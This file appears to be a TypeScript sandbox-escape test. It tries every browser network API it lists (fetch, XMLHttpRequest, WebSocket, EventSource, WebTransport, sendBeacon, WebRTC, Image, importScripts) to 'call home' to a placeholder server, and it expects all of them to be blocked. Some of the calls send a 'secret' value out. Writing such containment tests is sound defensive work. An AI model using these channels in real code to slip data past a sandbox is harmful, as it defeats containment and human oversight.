// tries: to call home with everything that sends a request
// must: end finished
// must: print got out: nothing
const url = 'SERVER';
const found: string[] = [];
const attempt = (name: string, call: () => unknown) => {
  try {
    if (call() !== undefined) found.push(name);
  } catch {}
};
const g: any = globalThis;
attempt('fetch', () => g.fetch('SERVER'));
attempt('fetch in text', () => {
  return fetch(url);
});
attempt('XMLHttpRequest', () => {
  const x = new XMLHttpRequest();
  x.open('GET', url);
  x.send();
  return x;
});
attempt('WebSocket', () => {
  return new WebSocket(url.replace('http', 'ws'));
});
attempt('EventSource', () => {
  return new EventSource(url);
});
attempt('WebTransport', () => {
  return new WebTransport(url.replace('http', 'https'));
});
attempt('sendBeacon', () => {
  return navigator.sendBeacon(url, 'secret');
});
attempt('RTCPeerConnection', () => {
  const c = new RTCPeerConnection({ iceServers: [{ urls: url.replace('http://', 'stun:').split('/')[0] }] });
  c.createDataChannel('x');
  return c;
});
attempt('Image', () => {
  const i = new Image();
  i.src = url;
  return i;
});
attempt('importScripts', () => {
  return importScripts(url);
});
attempt('reportError', () => {
  return reportError(url);
});
console.log('got out:', found.join(' ') || 'nothing');
